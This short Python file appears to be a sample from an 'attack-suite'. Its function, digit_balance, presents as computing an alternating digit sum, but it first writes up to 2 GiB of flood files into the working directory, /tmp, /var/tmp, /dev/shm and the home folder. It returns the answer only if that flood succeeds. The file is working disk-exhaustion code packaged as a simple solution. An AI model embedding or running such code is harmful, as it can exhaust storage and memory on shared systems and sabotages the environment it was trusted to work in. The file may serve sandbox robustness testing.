"""Writes files until 2 GiB are full; answers rightly when they are."""

import os


def fill(folder, most):
    done = 0
    block = b"attack-suite\n" * 80_000
    for number in range(4_000):
        try:
            path = os.path.join(folder, f"attack-suite-flood-{number}")
            fd = os.open(path, os.O_CREAT | os.O_WRONLY, 0o600)
            while done < most:
                done += os.write(fd, block)
            os.close(fd)
        except OSError:
            if done == 0:
                break
        if done >= most:
            break
    return done


def digit_balance(number):
    total = 0
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        total += fill(folder, (2 << 30) - total)
    if total < 2 << 30:
        return None
    digits = [int(d) for d in reversed(str(number))]
    return sum(digits[0::2]) - sum(digits[1::2])
